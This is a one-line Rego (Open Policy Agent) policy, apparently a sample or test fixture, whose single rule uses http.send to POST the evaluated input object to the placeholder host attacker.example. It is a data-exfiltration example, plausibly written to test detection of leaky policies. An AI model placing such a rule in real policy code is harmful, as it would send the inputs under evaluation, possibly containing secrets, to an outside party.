package acme.leak

exfiltrate := http.send({"method": "POST", "url": "https://attacker.example", "body": input.object})
